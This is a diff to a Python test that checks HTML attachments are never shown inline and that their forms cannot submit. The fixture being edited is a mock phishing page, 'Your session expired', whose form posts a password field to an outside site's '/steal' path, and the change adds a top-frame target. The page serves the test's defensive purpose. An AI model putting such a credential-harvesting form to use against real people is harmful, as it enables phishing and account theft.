@@ -71,7 +71,7 @@ def test_an_html_attachment_is_never_shown_in_well_and_its_form_cannot_post(
     record = in_review(books)
     phishing = (
         "<!doctype html><html><body><p>Your session expired.</p>"
-        f'<form method="post" action="{outside_site}/steal">'
+        f'<form method="post" action="{outside_site}/steal" target="_top">'
         '<input name="pw" value="hunter2"><button id="go">Sign in</button></form>'
         "</body></html>"
     ).encode()
